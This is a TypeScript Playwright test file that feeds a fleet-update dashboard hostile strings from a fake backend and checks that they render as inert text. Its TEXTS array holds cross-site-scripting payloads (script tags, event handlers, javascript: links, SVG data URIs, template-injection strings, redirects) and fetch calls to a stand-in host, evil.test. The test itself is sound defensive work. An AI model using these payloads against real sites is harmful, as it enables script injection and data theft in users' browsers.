// Both pages with texts of a cluster, and of links, whose author wants to run a script in the browser of whoever looks.

import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import type { Page } from 'playwright-core';
import { cells, head, row, serveFleet } from '../../src/dashboard/testing/index.ts';
import { createFakeBackend } from './fake-backend.ts';
import { decision, history, scenes, update } from './fixtures.ts';
import { serve } from './stage.ts';
import { pages } from './visit.ts';

const RUN = 'window.hacked=1,alert(1),fetch("//evil.test")';
const SVG = `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`;

/** One text each, because a page may shorten a long one. */
const TEXTS = [
  `"><img src=x onerror='${RUN}'><script>${RUN}</script><svg onload='${RUN}'>`,
  `</script></style></title></textarea><iframe srcdoc='<script>parent.${RUN}</script>'></iframe><base href=//evil.test/>`,
  `javascript:${RUN}`,
  `[click](javascript:${RUN}) <a href="javascript:${RUN}">https://evil.test</a> <meta http-equiv=refresh content="0;//evil.test">`,
  SVG,
  `<object data='${SVG}'></object><embed src='${SVG}'><link rel=stylesheet href=//evil.test><style>*{display:none}</style>`,
  `\${${RUN}} {{${RUN}}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %> #{${RUN}}`,
  `"'\`;${RUN};//"'\` \u0000 \u001B[31m \u2028\u2029`,
  `\u202Ereversed \u2066isolated ${'\u0301'.repeat(2_000)} \u200B`,
  `${'W'.repeat(32_000)} ${'word '.repeat(6_000)}`,
  '__proto__',
  'constructor',
];

/** Fields that the page looks up, and times. Anything else may say anything. */
const FIXED =
  /^(kind|type|state|phase|choice|at|now|since|\w+At|actsAt|timeZone|from|to|via|result|decision|time|apiVersion)$/;

/** The same with `text` in every field that has a text. */
const poison = <T>(value: T, text: string, key = ''): T => {
  if (typeof value === 'string') return (FIXED.test(key) ? value : text) as T;
  if (Array.isArray(value)) return value.map((each: unknown) => poison(each, text, key)) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, poison(each, text, name)])) as T;
};

const open = pages();

/** Fails on a dialog, on what ran, and on a link or picture to elsewhere. */
const watch = (t: TestContext, page: Page) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('popup', (popup) => dialogs.push(popup.url()));
  t.after(() => assert.deepEqual(dialogs, []));
  return async (what: string): Promise<void> => {
    const found = await page.evaluate<string[]>(`[
      ...('hacked' in window ? ['a script ran'] : []),
      ...[...document.querySelectorAll('script:not([src]), iframe, object, embed, base, img, meta[http-equiv], style:not(head *)')].map((one) => one.outerHTML),
      ...[...document.querySelectorAll('*')].filter((one) => one.getAttributeNames().some((name) => name.startsWith('on'))).map((one) => one.outerHTML),
      ...[...document.querySelectorAll('a[href]')].filter(({ href, rel }) => !href.startsWith(location.origin + '/')
        && !(/^https?:/.test(href) && rel.includes('noopener'))).map(({ href }) => href),
      ...(document.documentElement.scrollWidth > document.documentElement.clientWidth ? ['the page is too wide'] : []),
    ]`);
    assert.deepEqual(found, [], what);
  };
};

test("the owner's page shows hostile texts as texts, and its buttons work", async (t) => {
  const { available, hostileNotes, manyParts, ...others } = scenes;
  const backend = createFakeBackend(available);
  const served = await serve(backend);
  const { page } = await open(t, `http://127.0.0.1:${served.port}`, { close: () => served.close() });
  const check = watch(t, page);
  const unsafe = { configured: true, safe: false, message: 'x' };
  for (const [index, text] of TEXTS.entries()) {
    backend.remember(poison(history, text));
    for (const [name, scene] of Object.entries({
      available,
      hostileNotes,
      manyParts,
      downloadFailed: others.downloadFailed,
      refused: others.refused,
      unknown: others.unknown,
    })) {
      const device = { ...poison(scene.device, text), safe: { ...unsafe, message: text } };
      backend.show({
        // It is hostile, and the one to wait for.
        device: { ...device, displayName: `${index}-${name} ${text}` },
        updates: scene.updates.map((one) => poison(one, text)),
      });
      await page.locator('.device', { hasText: `${index}-${name}` }).waitFor();
      await check(`${name} with ${text.slice(0, 80)}`);
    }
  }
  const [text = ''] = TEXTS;
  backend.answer(() => ({ kind: 'accepted', status: 202, decision: poison(decision(), text) }));
  // The API server lets nobody choose such names, and the agent takes decisions for none.
  const { namespace, daemonSet } = update();
  backend.show({ device: available.device, updates: [{ ...poison(update(), text), namespace, daemonSet }] });
  await page.locator('.device', { hasText: available.device.node }).waitFor();
  await Promise.all([page.waitForResponse('**/decision'), page.getByRole('button', { name: /^Update now/ }).click()]);
  assert.deepEqual(
    backend.decided.map(({ app, choice }) => [app, choice.choice]),
    [[daemonSet, 'approve']],
  );
  await check('after a decision');
});

test('the dashboard shows hostile texts as texts, and its buttons work', async (t) => {
  const stage = { nodes: { total: 2, online: 1, updated: 1 }, promotedAt: '2026-01-01T00:00:00Z' };
  const check = { name: 'errors', state: 'Failing', message: 'x' } as const;
  const fleet = {
    head: {
      ...head,
      causes: [{ cause: 'window' as const, count: 1 }],
      sentences: ['x', 'y'],
      revisions: [{ hash: 'x', number: 1, images: ['x'] }],
      stages: {
        plan: 'rings',
        steps: [
          {
            ...stage,
            name: 'lab',
            state: 'Open' as const,
            awaits: 'x',
            way: '',
            checks: [check],
            decisions: ['approve' as const],
          },
          {
            ...stage,
            name: 'shops',
            state: 'Passed' as const,
            awaits: '',
            way: 'approved by x',
            checks: [],
            decisions: [],
          },
        ],
      },
    },
    details: {
      node: 'shop-1',
      phase: 'updated',
      cause: 'x',
      what: 'x',
      remedy: 'x',
      pods: [{ name: 'x', revision: 'x', ready: true, terminating: false, createdAt: '2026-01-01T00:00:00Z' }],
      conditions: [{ type: 'x', status: 'x', reason: 'x', message: 'x', since: '2026-01-01T00:00:00Z' }],
      labels: {},
      events: [{ reason: 'x', message: 'x', warning: true, at: '2026-01-01T00:00:00Z', count: 2 }],
      missing: ['x'],
    },
  };
  for (const text of TEXTS) {
    const said = poison(fleet, text);
    const { namespace, name, kind } = head;
    const shown = { ...said.head, namespace, name, kind };
    const steps = shown.stages.steps.map((step, index) => ({
      ...step,
      name: `${index}${text}`,
      decisions: fleet.head.stages.steps[index]?.decisions ?? [],
    }));
    const server = await serveFleet({
      rows: [{ ...poison(row, text), namespace, name }, poison(row, text)],
      rollout: {
        type: 'rollout',
        head: { ...shown, stages: { plan: text, steps } },
        nodes: cells.map(
          ([node, phase, , , ...rest]) => [node, phase, text, text, ...rest.slice(0, 2), `0${text}`] as never,
        ),
      },
      details: { ...said.details, node: 'shop-1', labels: { [text]: text } },
      labels: { [text.slice(0, 300)]: text },
      result: {
        failed: false,
        output: `${text}\n`,
        notes: [text],
        changes: [{ what: text, from: text, to: text }],
      },
    });
    await t.test(text.slice(0, 60), async (one) => {
      const { page } = await open(one, server.origin, {
        path: server.entry(),
        close: () => server.close(),
        viewport: { width: 1280, height: 800 },
      });
      const isFine = watch(one, page);
      await page.getByRole('link', { name: 'web', exact: true }).waitFor();
      await isFine('the overview');
      await page.getByRole('link', { name: 'web', exact: true }).click();
      await page.getByRole('button', { name: '1 updated' }).waitFor();
      for (const closed of await page.locator('summary').all()) await closed.click();
      await isFine('a rollout');
      await page.getByRole('application').first().focus();
      await page.keyboard.press('ArrowRight');
      await page.keyboard.press('Enter');
      await page.getByRole('complementary').getByRole('heading', { name: 'Pods' }).waitFor();
      await isFine('a node');
      await page.getByLabel('Group by').selectOption({ index: 2 });
      await isFine('a group');
      await page.keyboard.press('Escape');
      await page.getByRole('complementary').waitFor({ state: 'detached' });
      await page.getByRole('button', { name: 'Undo…' }).click();
      await page.getByRole('dialog').locator('.changes').waitFor();
      await isFine('a command');
      await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
    });
  }
});

test('the dashboard opens with any address', async (t) => {
  for (const hash of [
    '#/%',
    '#/%ff/%c0/%00',
    `#/javascript:alert(1)/ds/${encodeURIComponent(TEXTS[0] ?? '')}`,
    `#/shop/ds/web?node=${encodeURIComponent(SVG)}&phase=__proto__&group=constructor`,
  ])
    await t.test(hash, async (one) => {
      const server = await serveFleet({ rows: [row], rollout: { type: 'rollout', head, nodes: cells } });
      const { page } = await open(one, server.origin, {
        path: `${server.entry()}${hash.slice(1)}`,
        allow: /status of 40[04]/,
        close: () => server.close(),
      });
      await watch(one, page)(hash);
    });
});
